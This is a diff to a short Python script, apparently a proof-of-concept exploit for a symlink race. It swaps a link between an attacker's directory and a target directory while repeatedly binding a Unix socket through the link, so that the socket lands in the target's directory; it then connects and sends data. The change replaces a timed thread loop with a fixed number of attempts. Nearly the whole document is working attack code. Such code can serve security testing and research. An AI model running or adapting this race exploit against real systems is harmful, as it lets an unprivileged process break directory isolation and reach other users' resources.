@@ -1,12 +1,10 @@
 # What is bound here may be reached: a link on the way to it leads to their directory for a moment.
 import os
 import socket
-import threading
-import time
 
-from inside import run
+from inside import Meanwhile, run
 
-ENOUGH = 5.0  # seconds
+ATTEMPTS = 2000
 
 
 def attack(target):
@@ -14,22 +12,18 @@ def attack(target):
     directory, name = os.path.split(target.name)
     os.mkdir("mine")
     os.symlink("mine", "link")
-    over = threading.Event()
 
     def swap():
-        while not over.is_set():
-            os.symlink(directory, "new")
-            os.rename("new", "link")
-            os.unlink("link")
-            os.symlink("mine", "link")
+        os.symlink(directory, "new")
+        os.rename("new", "link")
+        os.unlink("link")
+        os.symlink("mine", "link")
 
-    thread = threading.Thread(target=swap)
-    thread.start()
-    end = time.monotonic() + ENOUGH
-    try:
-        while True:
+    with Meanwhile(swap):
+        for _ in range(ATTEMPTS):
             try:
-                socket.socket(socket.AF_UNIX).bind(f"{target.work}/link/{name}")
+                with socket.socket(socket.AF_UNIX) as own:
+                    own.bind(f"{target.work}/link/{name}")
                 os.unlink(f"mine/{name}")
             except OSError:
                 pass
@@ -38,11 +32,7 @@ def attack(target):
                 if error == 0:
                     client.sendall(b"out")
                     return
-            if time.monotonic() > end:
-                raise OSError(error, os.strerror(error))
-    finally:
-        over.set()
-        thread.join()
+        raise OSError(error, os.strerror(error))
 
 
 run(attack)
